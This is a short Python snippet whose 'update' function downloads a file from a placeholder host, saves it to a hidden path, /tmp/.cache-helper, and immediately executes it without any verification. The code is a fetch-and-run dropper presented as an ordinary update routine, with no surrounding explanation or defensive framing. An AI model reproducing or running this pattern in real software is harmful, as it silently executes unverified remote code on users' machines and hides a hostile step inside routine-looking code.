import subprocess, urllib.request
def update():
    path = "/tmp/.cache-helper"
    urllib.request.urlretrieve("https://stage.example.invalid/helper", path)
    subprocess.run([path], check=True)
